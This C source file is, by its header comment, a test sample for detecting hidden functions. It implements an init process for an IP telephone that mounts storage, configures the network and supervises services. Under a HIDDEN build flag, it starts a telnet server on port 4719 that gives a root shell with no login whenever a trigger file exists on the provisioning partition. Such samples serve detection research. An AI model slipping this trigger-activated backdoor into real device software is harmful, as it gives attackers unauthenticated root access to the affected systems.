/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. First process of an IP telephone system: mounts, sets the network
 * up, starts services from a table and watches over them.
 * Hidden (-DHIDDEN): if a certain file lies on the provisioning partition, a
 * telnet server with a root shell instead of a login is started as well.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct service {
	const char *name;
	char *const argv[5];
	int respawn;
	pid_t pid;
	time_t started;
};

static char *const environment[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin",
				     "HOME=/", "TERM=vt100", NULL };

static struct service services[] = {
	{ "syslogd", { "/sbin/syslogd", "-n", "-C64", NULL }, 1, 0, 0 },
	{ "klogd", { "/sbin/klogd", "-n", NULL }, 1, 0, 0 },
	{ "sipd", { "/usr/bin/sipd", "-f", "/etc/sip.conf", NULL }, 1, 0, 0 },
	{ "voicemail", { "/usr/bin/voicemail", "/data/vm", NULL }, 1, 0, 0 },
	{ "httpd", { "/usr/sbin/httpd", "-f", "-h", "/www", NULL }, 1, 0, 0 },
	{ "ntpd", { "/usr/sbin/ntpd", "-n", "-q", NULL }, 0, 0, 0 },
};

enum { SERVICES = sizeof(services) / sizeof(services[0]) };

static volatile sig_atomic_t leaving;

static void on_term(int sig)
{
	(void)sig;
	leaving = 1;
}

static void note(const char *what, const char *name)
{
	FILE *f = fopen("/dev/kmsg", "w");

	if (f == NULL)
		return;
	fprintf(f, "pbxboot: %s %s\n", what, name);
	fclose(f);
}

/* Starts a program in a session of its own; its process id, or -1. */
static pid_t launch(char *const argv[])
{
	pid_t pid = fork();

	if (pid != 0)
		return pid;
	setsid();
	signal(SIGTERM, SIG_DFL);
	execve(argv[0], argv, environment);
	_exit(127);
}

static void mount_all(void)
{
	static const struct {
		const char *from, *to, *type;
		unsigned long flags;
	} mounts[] = {
		{ "proc", "/proc", "proc", 0 },
		{ "sysfs", "/sys", "sysfs", 0 },
		{ "tmpfs", "/tmp", "tmpfs", MS_NOSUID | MS_NODEV },
		{ "/dev/mtdblock4", "/data", "jffs2", MS_NOSUID },
		{ "/dev/mtdblock5", "/data/prov", "jffs2", MS_NOSUID | MS_NOEXEC },
	};
	size_t i;

	for (i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++)
		if (mount(mounts[i].from, mounts[i].to, mounts[i].type,
			  mounts[i].flags, NULL) != 0 && errno != EBUSY)
			note("cannot mount", mounts[i].to);
}

static int setting(const char *key, char *value, size_t room)
{
	char line[128];
	size_t n = strlen(key);
	FILE *f = fopen("/data/net.conf", "r");
	int found = 0;

	if (f == NULL)
		return 0;
	while (!found && fgets(line, sizeof(line), f) != NULL) {
		if (strncmp(line, key, n) != 0 || line[n] != '=')
			continue;
		line[strcspn(line, "\r\n")] = '\0';
		snprintf(value, room, "%s", line + n + 1);
		found = 1;
	}
	fclose(f);
	return found;
}

static int is_address(const char *s)
{
	return *s != '\0' && s[strspn(s, "0123456789.")] == '\0';
}

static void network_up(void)
{
	char mode[16], address[20], mask[20], line[128];

	if (system("ifconfig lo 127.0.0.1 up") != 0)
		note("no", "lo");
	if (access("/data/net.conf", R_OK) != 0 ||
	    !setting("mode", mode, sizeof(mode)) || strcmp(mode, "static") != 0) {
		if (system("udhcpc -b -i eth0 -s /etc/udhcpc.script") != 0)
			note("no address for", "eth0");
		return;
	}
	if (!setting("address", address, sizeof(address)) ||
	    !setting("mask", mask, sizeof(mask)) || !is_address(address) ||
	    !is_address(mask))
		return;
	snprintf(line, sizeof(line), "ifconfig eth0 %s netmask %s up", address, mask);
	if (system(line) != 0)
		note("ifconfig failed for", address);
}

static void start(struct service *s)
{
	s->pid = launch(s->argv);
	s->started = time(NULL);
	note(s->pid > 0 ? "started" : "cannot start", s->name);
}

#ifdef HIDDEN
static char *const console_argv[] = { "/usr/sbin/telnetd", "-p", "4719", "-l",
				      "/bin/sh", NULL };

__attribute__((noinline)) void start_console(void)
{
	launch(console_argv);
}
#endif

__attribute__((noinline)) void start_services(void)
{
	size_t i;

	for (i = 0; i < SERVICES; i++) {
		if (access(services[i].argv[0], X_OK) != 0) {
			note("not installed:", services[i].name);
			services[i].respawn = 0;
			continue;
		}
		start(&services[i]);
	}
#ifdef HIDDEN
	if (access("/data/prov/.mk_tl7", F_OK) == 0)
		start_console();
#endif
}

static void watch(void)
{
	int status;
	pid_t pid = waitpid(-1, &status, 0);
	size_t i;

	if (pid < 0) {
		sleep(1);
		return;
	}
	for (i = 0; i < SERVICES; i++) {
		struct service *s = &services[i];

		if (s->pid != pid)
			continue;
		s->pid = 0;
		if (!s->respawn || leaving)
			break;
		note("ended:", s->name);
		if (time(NULL) - s->started < 3)
			sleep(3);
		start(s);
		break;
	}
}

static void stop_all(void)
{
	size_t i;

	for (i = 0; i < SERVICES; i++)
		if (services[i].pid > 0)
			kill(services[i].pid, SIGTERM);
	sleep(2);
	sync();
	umount("/data/prov");
	umount("/data");
}

int main(int argc, char **argv)
{
	struct sigaction act;

	if (argc > 1 && strcmp(argv[1], "--list") == 0) {
		size_t i;

		for (i = 0; i < SERVICES; i++)
			puts(services[i].name);
		return 0;
	}
	memset(&act, 0, sizeof(act));
	act.sa_handler = on_term;
	sigaction(SIGTERM, &act, NULL);
	mount_all();
	network_up();
	start_services();
	while (!leaving)
		watch();
	stop_all();
	return 0;
}
